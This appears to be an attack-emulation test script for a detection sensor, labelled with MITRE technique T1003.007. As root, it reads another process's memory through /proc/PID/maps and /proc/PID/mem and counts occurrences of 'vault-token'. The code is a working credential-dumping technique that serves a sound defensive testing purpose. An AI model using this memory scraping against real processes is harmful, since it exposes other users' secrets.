#!/usr/bin/env bash
# tactic: credential-access
# technique: T1003.007 OS Credential Dumping: Proc Filesystem
# behaviour: reads another user's process memory through /proc/PID/maps and /proc/PID/mem, searching it for secrets
# as: root
# expect: process_memory_access, ptrace
set -u
python3 - "$SNTL_VICTIM_PID" <<'PY'
import re, sys
pid = sys.argv[1]
found = 0
with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
    for line in maps:
        m = re.match(r"([0-9a-f]+)-([0-9a-f]+) r", line)
        if not m or "[vvar]" in line:
            continue
        a, b = int(m.group(1), 16), int(m.group(2), 16)
        try:
            mem.seek(a)
            found += mem.read(min(b - a, 1 << 22)).count(b"vault-token")
        except (OSError, ValueError, OverflowError):
            pass
print("hits", found)
PY
